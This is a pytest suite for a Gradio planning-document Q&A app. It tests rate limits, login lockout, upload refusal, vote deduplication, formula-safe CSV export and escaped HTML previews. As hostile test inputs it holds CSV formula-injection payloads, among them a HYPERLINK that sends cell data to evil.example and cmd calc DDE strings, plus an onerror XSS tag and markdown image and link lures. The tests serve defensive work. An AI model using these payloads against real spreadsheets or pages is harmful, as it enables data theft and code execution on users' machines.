"""Anonymous traffic and unsafe exports: limits per client address on a real server, failed logins slowed,
no uploads, one vote per answer, CSV cells that cannot run as formulas, a briefing preview without images."""

from __future__ import annotations

import csv
import re
import sqlite3
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from datetime import date
from pathlib import Path
from typing import Any

import gradio as gr
import httpx
import pytest
from gradio.utils import get_upload_folder
from pydantic import SecretStr, ValidationError

from qa.brief import Brief, DistrictBrief, Point
from qa.chain import QAChain
from qa.settings import Settings
from qa.types import Answer, Chunk, Citation
from tests.test_ui_app import free_port
from tests.ui_index import plans_chain
from ui.app import DOWNLOAD_CACHE, create, launch
from ui.brief import brief_markdown
from ui.chat import ChatService
from ui.downloads import DownloadFolders
from ui.feedback import COLUMNS, FeedbackStore, spreadsheet_safe
from ui.limits import LoginThrottle, RateLimiter
from ui.preview import brief_preview_html
from ui.render import Turn

GDP = "从化区2020年的地区生产总值是多少？"
IMAGE = "![x](https://evil.example/p.png)"
LINK = "[点此](https://evil.example/login)"


class Clock:
    """A clock the test moves by hand."""

    def __init__(self, now: float = 1000.0) -> None:
        self.now = now

    def __call__(self) -> float:
        return self.now


@pytest.fixture(scope="module")
def chain(tmp_path_factory: pytest.TempPathFactory) -> QAChain:
    return plans_chain(tmp_path_factory.getbasetemp() / "ui-index")


@contextmanager
def served(chain: QAChain, folder: Path, **overrides: Any) -> Iterator[tuple[gr.Blocks, httpx.Client]]:
    """The app on a free loopback port with these settings, and an HTTP client for it."""
    settings = Settings(feedback_db=folder / "f.sqlite3", **overrides)
    demo = create(chain, settings, warm_up=False)
    url = launch(demo, settings, port=free_port(), prevent_thread_lock=True, quiet=True)
    try:
        with httpx.Client(base_url=url, timeout=30) as http:
            yield demo, http
    finally:
        demo.close()


def ask(http: httpx.Client, forwarded_for: str | None = None) -> httpx.Response:
    """POST /gradio_api/call/ask as a script would: no session, no page."""
    headers = {"X-Forwarded-For": forwarded_for} if forwarded_for else {}
    return http.post("gradio_api/call/ask", json={"data": [GDP, "all", None]}, headers=headers)


def fn_index(demo: gr.Blocks, api_name: str) -> int:
    return next(i for i, f in demo.fns.items() if f.api_name == api_name)


def test_questions_from_one_address_are_limited_however_they_arrive(chain: QAChain, tmp_path: Path) -> None:
    # the session limit is out of the way: each raw call is a new session anyway
    with served(chain, tmp_path, rate_limit_per_minute=100, rate_limit_per_address_per_minute=3) as (
        demo,
        http,
    ):
        assert [ask(http).status_code for _ in range(3)] == [200, 200, 200]
        limited = ask(http)
        assert limited.status_code == 429 and int(limited.headers["retry-after"]) > 0
        assert "秒后再试" in limited.json()["detail"] and "每分钟最多 3 次" in limited.json()["detail"]
        # the page's own route, with a fresh session, is the same address
        page = {"data": [GDP, "全部", None], "fn_index": fn_index(demo, "respond"), "session_hash": "new"}
        assert http.post("gradio_api/queue/join", json=page).status_code == 429
        page["fn_index"] = str(page["fn_index"])  # Gradio would coerce it: so does the guard
        assert http.post("gradio_api/queue/join", json=page).status_code == 429
        # a peer that is not a trusted proxy cannot pick its address
        assert ask(http, forwarded_for="203.0.113.9").status_code == 429
        # what does not run the retriever is not counted
        take = {"data": ["问"], "fn_index": fn_index(demo, "take"), "session_hash": "new"}
        taken = http.post("gradio_api/run/predict", json=take)
        assert taken.status_code == 200 and taken.json()["data"][0] == ""  # the box cleared
        assert "Traceback" not in limited.text


def test_behind_a_trusted_proxy_each_forwarded_client_has_its_own_limit(
    chain: QAChain, tmp_path: Path
) -> None:
    with served(chain, tmp_path, rate_limit_per_address_per_minute=2, trusted_proxies="127.0.0.1") as (
        _,
        http,
    ):
        assert [ask(http, "203.0.113.5").status_code for _ in range(3)] == [200, 200, 429]
        assert ask(http, "203.0.113.6").status_code == 200
        # the proxy appends the address it saw: what a client writes before it is not believed
        assert ask(http, "198.51.100.1, 203.0.113.5").status_code == 429


def test_trusted_proxies_must_be_addresses_or_networks() -> None:
    assert Settings(trusted_proxies=" 10.0.0.1, 10.1.0.0/16 ,").trusted_proxies == "10.0.0.1,10.1.0.0/16"
    with pytest.raises(ValidationError, match="not an IP address"):
        Settings(trusted_proxies="10.0.0.1,proxy.internal")


def test_uploads_and_oversized_bodies_are_refused_and_nothing_is_kept(chain: QAChain, tmp_path: Path) -> None:
    uploads = Path(get_upload_folder())
    before = set(uploads.rglob("*")) if uploads.exists() else set()
    with served(chain, tmp_path) as (_, http):
        for size in (10, 3 << 20):
            refused = http.post("gradio_api/upload", files={"files": (f"f{size}.bin", b"x" * size)})
            assert refused.status_code == 403 and "上传" in refused.json()["detail"]
        big = http.post("gradio_api/call/ask", json={"data": ["问" * (1 << 20), "all", None]})
        assert big.status_code == 413 and "过大" in big.json()["detail"]
        assert ask(http).status_code == 200  # an ordinary call still goes through
    after = set(uploads.rglob("*")) if uploads.exists() else set()
    assert not [p for p in after - before if p.name.startswith("f") and p.suffix == ".bin"]


def test_failed_logins_lock_out_their_address_for_longer_each_time(chain: QAChain, tmp_path: Path) -> None:
    settings = {"auth": SecretStr("staff:s3cret"), "trusted_proxies": "127.0.0.1"}
    with served(chain, tmp_path, **settings) as (_, http):

        def login(password: str, client: str = "203.0.113.7") -> httpx.Response:
            form = {"username": "staff", "password": password}
            return http.post("login", data=form, headers={"X-Forwarded-For": client})

        codes = [login(f"guess{i}").status_code for i in range(30)]
        assert codes.count(400) <= 8 and codes.count(429) >= 22, codes  # 300 in 0.3 s used to all be tried
        locked = login("s3cret")  # the right password does not open a locked address
        assert locked.status_code == 429 and "登录失败次数过多" in locked.json()["detail"]
        assert login("s3cret", client="203.0.113.8").status_code == 200  # others are not locked out
        time.sleep(int(locked.headers["retry-after"]))
        assert login("s3cret").status_code == 200


def test_the_login_lock_out_doubles_and_is_forgotten() -> None:
    clock = Clock()
    throttle = LoginThrottle(free=2, first_lock=1.0, max_lock=8.0, clock=clock)
    assert [throttle.attempt("a") for _ in range(3)] == [0, 0, 0]  # two free, the third sets a 1 s lock
    assert throttle.attempt("a") == 1 and throttle.attempt("b") == 0
    waits = []
    for _ in range(5):
        clock.now += throttle.attempt("a")
        assert throttle.attempt("a") == 0  # the lock ended: one more try, which locks for twice as long
        waits.append(throttle.attempt("a"))
    assert waits == [2, 4, 8, 8, 8]  # capped at max_lock
    throttle.succeeded("a")
    assert [throttle.attempt("a") for _ in range(3)] == [0, 0, 0]
    clock.now += 1 + 8  # quiet for a whole max_lock after the lock: a fresh start
    assert [throttle.attempt("a") for _ in range(3)] == [0, 0, 0]


@pytest.fixture
def store(tmp_path: Path) -> FeedbackStore:
    return FeedbackStore(tmp_path / "feedback.sqlite3")


def answered(question: str = GDP) -> Turn:
    chunk = Chunk("c", "conghua", "规划", "从化区", ("第一章",), 1, 1, 0, 4, "正文内容", "正文内容", "")
    answer = Answer(question, "正文内容[1]", False, "extractive", (Citation(1, chunk, "正文内容"),))
    return Turn(question, answer, "conghua")


def votes(store: FeedbackStore) -> list[tuple[Any, ...]]:
    with sqlite3.connect(store.path) as conn:
        return conn.execute("SELECT id, vote, comment, session FROM feedback ORDER BY id").fetchall()


def test_one_vote_per_answer_per_session_which_a_later_click_replaces(
    chain: QAChain, store: FeedbackStore
) -> None:
    service = ChatService(chain, store, RateLimiter(per_minute=10))
    turns = [answered(), answered("另一个问题")]
    row = service.vote(turns, 1, True, "s1")
    assert service.vote(turns, 1, True, "s1") == row  # a second 👍 replaces the first
    assert service.vote(turns, 1, False, "s1") == row  # 👎 after 👍 replaces it
    assert service.comment(row, "数字不对")
    assert votes(store) == [(row, -1, "数字不对", "s1")]  # the comment is on that one row
    other = service.vote(turns, 3, True, "s1")  # another answer, another row
    assert other != row and service.vote(turns, 1, True, "s2") not in {row, other}  # another session
    assert len(votes(store)) == 3
    for i in range(20):  # 20 clicks on 👍: the page sends like, then "" (clicked off), in turn
        service.vote(turns, 3, None if i % 2 else True, "s3")
    assert [v for v in votes(store) if v[3] == "s3"] == []  # ends clicked off, as on the page


def test_votes_arriving_together_still_make_one_row(chain: QAChain, store: FeedbackStore) -> None:
    service = ChatService(chain, store, RateLimiter(per_minute=10))
    turns = [answered()]
    with ThreadPoolExecutor(8) as pool:
        rows = set(pool.map(lambda i: service.vote(turns, 1, i % 2 == 0, "s"), range(16)))
    assert len(rows) == 1 and len(votes(store)) == 1


def test_a_feedback_file_from_before_takes_one_vote_rows_and_keeps_its_votes(tmp_path: Path) -> None:
    path = tmp_path / "old.sqlite3"
    with sqlite3.connect(path) as conn:
        conn.execute(
            "CREATE TABLE feedback (id INTEGER PRIMARY KEY AUTOINCREMENT, created TEXT NOT NULL, vote INTEGER"
            " NOT NULL, comment TEXT NOT NULL DEFAULT '', question TEXT NOT NULL, answer TEXT NOT NULL,"
            " citations TEXT NOT NULL, backend TEXT NOT NULL, district TEXT NOT NULL DEFAULT '')"
        )
        conn.execute("INSERT INTO feedback VALUES (1, 't', 1, '', 'q', 'a', '[]', 'extractive', '')")
    conn.close()
    store = FeedbackStore(path)
    turn = answered()
    assert store.record(turn.answer, True, session="s", key=turn.key) == store.record(
        turn.answer, False, session="s", key=turn.key
    )
    assert [r[2] for r in store.rows()] == [1, -1]  # the old vote, then the one replaced in place


def test_exported_cells_cannot_run_as_spreadsheet_formulas(store: FeedbackStore, tmp_path: Path) -> None:
    hostile = {
        '=HYPERLINK("https://evil.example/?d="&A1,"点我")': "\t=1+1",
        "+1+cmd|' /C calc'!A0": "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0": "\r=1+1",
        "  荔湾区有哪些历史文化街区？ ": "希望补充 - 号后的内容",
    }
    for question, comment in hostile.items():
        store.record(answered(question).answer, False, comment=comment)
    out = tmp_path / "feedback.csv"
    store.export_csv(out)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == list(COLUMNS)
    assert [(r["question"], r["comment"]) for r in rows] == [
        ('\'=HYPERLINK("https://evil.example/?d="&A1,"点我")', "'=1+1"),
        ("'+1+cmd|' /C calc'!A0", "'-2+3"),
        ("'@SUM(1+1)*cmd|' /C calc'!A0", "'=1+1"),
        ("荔湾区有哪些历史文化街区？", "希望补充 - 号后的内容"),
    ]
    assert {r["vote"] for r in rows} == {"-1"}  # numbers are not text cells
    assert spreadsheet_safe(" \t=1+1") == "'=1+1" and spreadsheet_safe(-1) == -1


def evil_brief() -> Brief:
    """A briefing whose plan text carries an image, a link and HTML, as a hostile document would."""
    text = f"加强生态环境保护{IMAGE}，详见{LINK}<img src=x onerror=alert(1)>。"
    chunk = Chunk("c", "liwan", "荔湾规划", "荔湾区", ("第一章", IMAGE), 3, 3, 0, len(text), text, text, "")
    point = Point(text, chunk, 3)
    part = DistrictBrief("liwan", "荔湾区", "荔湾规划", (point,), (point,), (), (), (point,), (IMAGE,))
    return Brief("生态环境保护", "zh-Hans", date(2026, 1, 1), (part,))


def test_the_briefing_preview_shows_plan_text_as_text() -> None:
    html = brief_preview_html(brief_markdown(evil_brief()))
    tags = {"h1", "h2", "h3", "p", "ul", "ol", "li", "blockquote", "br", "sup", "a"}
    assert set(re.findall(r"<(\w+)", html)) <= tags
    assert set(re.findall(r'href="([^"]*)"', html)) <= {
        f"#brief-{kind}-{n}" for kind in ("ref", "note") for n in (1, 2, 3)
    }
    assert "&lt;img src=x onerror=alert(1)&gt;" in html and IMAGE in html and LINK in html
    assert "<h1>简报：生态环境保护</h1>" in html and "<h3>主要举措</h3>" in html and "<li>" in html
    assert (
        "<blockquote>" in html and 'id="brief-ref-1">1</a></sup>' in html and '<li id="brief-note-1"' in html
    )


def test_the_page_previews_the_draft_through_that_html(chain: QAChain, tmp_path: Path) -> None:
    demo = create(chain, Settings(feedback_db=tmp_path / "f.sqlite3"), warm_up=False)
    preview = next(b for b in demo.blocks.values() if getattr(b, "elem_id", None) == "brief-preview")
    assert isinstance(preview, gr.HTML)  # gr.Markdown would turn a quoted ![](…) into an image
    (render,) = [f for f in demo.fns.values() if preview in f.outputs]
    assert render.fn is not None and "<img" not in render.fn(f"> {IMAGE}")
    assert demo.delete_cache == DOWNLOAD_CACHE  # Gradio's copies of the downloads go on a timer


def test_briefing_download_folders_are_removed_once_old() -> None:
    clock = Clock(time.time())
    folders = DownloadFolders(max_age=600, clock=clock)
    first = folders.new()
    (first / "简报.md").write_text("# 简报", encoding="utf-8")
    second = folders.new()
    assert first.exists() and second.exists()
    clock.now += 601
    third = folders.new()
    assert not first.exists() and not second.exists() and third.exists()
    folders.close()
    assert not folders.root.exists()
